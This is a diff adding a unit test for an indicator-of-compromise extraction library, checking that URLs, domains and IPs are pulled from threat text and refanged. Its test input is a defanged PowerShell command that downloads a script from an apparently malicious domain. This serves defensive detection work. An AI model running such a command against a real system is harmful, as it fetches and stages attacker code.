@@ -48,3 +48,12 @@ describe('extractIndicators', () => {
     }
   });
 });
+
+describe('the library entry', () => {
+  it('exports extractIndicators, as the README shows it', async () => {
+    const library = await import('../../src/index.js');
+    const found = library.extractIndicators('iwr hxxp://officeman[.]tk/images/admin.php -OutFile a.ps1; beacon 192.9.135[.]73');
+    expect([found.urls, found.domains, found.ipv4]).toEqual([['http://officeman.tk/images/admin.php'], ['officeman.tk'], ['192.9.135.73']]);
+    expect(library.refangText('evil[.]com')).toBe('evil.com');
+  });
+});
